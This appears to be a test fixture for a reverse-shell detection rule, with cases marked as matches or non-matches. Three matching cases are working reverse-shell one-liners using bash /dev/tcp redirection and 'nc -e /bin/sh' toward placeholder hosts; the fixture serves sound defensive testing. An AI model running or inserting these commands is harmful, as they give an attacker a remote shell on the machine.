# ruleid: shell.reverse-shell
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# --- case
# ruleid: shell.reverse-shell
nc -e /bin/sh example.com 4444
# --- case
# ruleid: shell.reverse-shell
sh -i >& /dev/tcp/example.com/9001 0>&1
# --- case
# ok: shell.reverse-shell
nc -z localhost 5432
# --- case
# ok: shell.reverse-shell
bash -i
